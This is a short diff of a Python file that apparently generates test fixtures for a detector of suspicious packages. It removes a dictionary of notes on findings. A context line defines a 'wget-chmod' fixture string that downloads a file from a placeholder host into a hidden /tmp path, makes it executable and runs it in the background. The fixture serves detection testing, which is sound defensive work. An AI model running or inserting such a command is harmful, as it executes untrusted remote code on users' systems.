@@ -195,9 +195,6 @@ def sync():
 """,
     ),
 }
-LIMITS = {
-    "torch-model-pickle": "a pickle of a literal that is only loaded on a call is one finding, and not quite enough"
-}
 for title, (what, text) in CALLED.items():
     RECENT_ODD.add(
         f"recent-called-{title}",
@@ -215,7 +212,6 @@ for title, (what, text) in CALLED.items():
             }
             | {f"{title.replace('-', '_')}_lib/__init__.py": MODULE, f"{title.replace('-', '_')}_lib/core.py": text},
         ),
-        LIMITS.get(title, ""),
     )
 SETUPS = {
     "wget-chmod": "import os\nos.system('wget -q https://cdn.example.invalid/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x &')\n",
